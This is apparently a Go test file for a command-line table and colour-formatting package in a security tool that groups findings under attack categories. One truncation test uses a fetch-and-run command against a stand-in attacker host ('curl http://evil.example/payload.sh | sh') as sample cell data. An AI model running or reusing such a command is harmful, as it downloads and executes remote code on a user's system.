package cliui

import (
	"strings"
	"testing"
)

func TestRenderTableBasic(t *testing.T) {
	out := SprintTable(
		[]Column{{Name: "CATEGORY"}, {Name: "COUNT", AlignRight: true}},
		[][]string{
			{"reconnaissance", "12"},
			{"persistence", "3"},
		},
	)
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("expected header + rule + 2 rows, got %d lines:\n%s", len(lines), out)
	}
	if lines[0] != "CATEGORY        COUNT" {
		t.Fatalf("header = %q", lines[0])
	}
	if lines[1] != "--------------  -----" {
		t.Fatalf("rule = %q", lines[1])
	}
	if lines[2] != "reconnaissance     12" {
		t.Fatalf("row = %q", lines[2])
	}
}

func TestRenderTableTruncatesWideCells(t *testing.T) {
	out := SprintTable(
		[]Column{{Name: "COMMAND", MaxWidth: 10}, {Name: "N"}},
		[][]string{{"curl http://evil.example/payload.sh | sh", "1"}},
	)
	if strings.Contains(out, "payload") {
		t.Fatalf("cell not truncated:\n%s", out)
	}
	if !strings.Contains(out, "curl ht...") {
		t.Fatalf("expected ellipsis truncation:\n%s", out)
	}
}

func TestRenderTableColoredCellsAlign(t *testing.T) {
	color := Colorizer{Enabled: true}
	out := SprintTable(
		[]Column{{Name: "CATEGORY"}, {Name: "COUNT", AlignRight: true}},
		[][]string{
			{color.Category("privilege_escalation"), "4"},
			{color.Category("miscellaneous"), "12"},
		},
	)
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("expected 4 lines:\n%s", out)
	}
	// Escape bytes are invisible; every line must share the visible width
	// set by the widest cell (privilege_escalation, 20 runes).
	want := visibleRuneLen(lines[0])
	for _, line := range lines[1:] {
		if got := visibleRuneLen(line); got != want {
			t.Fatalf("visible width %d, want %d in line %q", got, want, line)
		}
	}
	if !strings.Contains(lines[2], "\x1b[31mprivilege_escalation\x1b[0m") {
		t.Fatalf("color escapes lost: %q", lines[2])
	}
	if !strings.HasSuffix(lines[3], "   12") {
		t.Fatalf("right-aligned count misplaced: %q", lines[3])
	}
}

func TestRenderTableTruncatesColoredCellCleanly(t *testing.T) {
	color := Colorizer{Enabled: true}
	out := SprintTable(
		[]Column{{Name: "CATEGORY", MaxWidth: 10}},
		[][]string{{color.Category("privilege_escalation")}},
	)
	if strings.Contains(out, "\x1b") {
		t.Fatalf("truncated cell must not keep partial escapes:\n%q", out)
	}
	if !strings.Contains(out, "privile...") {
		t.Fatalf("expected plain ellipsis truncation:\n%s", out)
	}
}

func TestStripANSI(t *testing.T) {
	in := "\x1b[31mprivilege_escalation\x1b[0m"
	if got := stripANSI(in); got != "privilege_escalation" {
		t.Fatalf("stripANSI = %q", got)
	}
	if got := visibleRuneLen(in); got != 20 {
		t.Fatalf("visibleRuneLen = %d, want 20", got)
	}
	// Unterminated sequence consumes to end of string.
	if got := stripANSI("abc\x1b[31"); got != "abc" {
		t.Fatalf("unterminated escape: %q", got)
	}
}

func TestRenderTableShortRow(t *testing.T) {
	out := SprintTable(
		[]Column{{Name: "A"}, {Name: "B"}},
		[][]string{{"only"}},
	)
	if !strings.Contains(out, "only") {
		t.Fatalf("short row dropped:\n%s", out)
	}
}

func TestTruncate(t *testing.T) {
	cases := []struct {
		in   string
		max  int
		want string
	}{
		{"hello", 10, "hello"},
		{"hello world", 8, "hello..."},
		{"héllo wörld", 8, "héllo..."},
		{"abc", 2, "ab"},
		{"abc", 0, ""},
	}
	for _, c := range cases {
		if got := Truncate(c.in, c.max); got != c.want {
			t.Fatalf("Truncate(%q, %d) = %q, want %q", c.in, c.max, got, c.want)
		}
	}
}

func TestFormatUnix(t *testing.T) {
	if got := FormatUnix(0); got != "-" {
		t.Fatalf("zero timestamp = %q", got)
	}
	if got := FormatUnix(1700000000); got != "2023-11-14 22:13:20Z" {
		t.Fatalf("FormatUnix = %q", got)
	}
}

func TestPercent(t *testing.T) {
	if got := Percent(33.333); got != "33.3%" {
		t.Fatalf("Percent = %q", got)
	}
}

func TestJoinKV(t *testing.T) {
	got := JoinKV(KV{"total", "42"}, KV{" ", "skipped"}, KV{"focus", "persistence"})
	if got != "total=42  focus=persistence" {
		t.Fatalf("JoinKV = %q", got)
	}
}

func TestParseColorMode(t *testing.T) {
	for in, want := range map[string]ColorMode{
		"":       ColorAuto,
		"auto":   ColorAuto,
		"Always": ColorAlways,
		"never":  ColorNever,
	} {
		got, err := ParseColorMode(in)
		if err != nil || got != want {
			t.Fatalf("ParseColorMode(%q) = %q, %v", in, got, err)
		}
	}
	if _, err := ParseColorMode("rainbow"); err == nil {
		t.Fatal("expected error for invalid mode")
	}
}

func TestColorizerCategory(t *testing.T) {
	off := Colorizer{}
	if got := off.Category("privilege_escalation"); got != "privilege_escalation" {
		t.Fatalf("disabled colorizer altered value: %q", got)
	}
	on := Colorizer{Enabled: true}
	if got := on.Category("privilege_escalation"); got != "\x1b[31mprivilege_escalation\x1b[0m" {
		t.Fatalf("privilege_escalation color = %q", got)
	}
	if got := on.Category("miscellaneous"); got != "miscellaneous" {
		t.Fatalf("miscellaneous must stay plain: %q", got)
	}
}
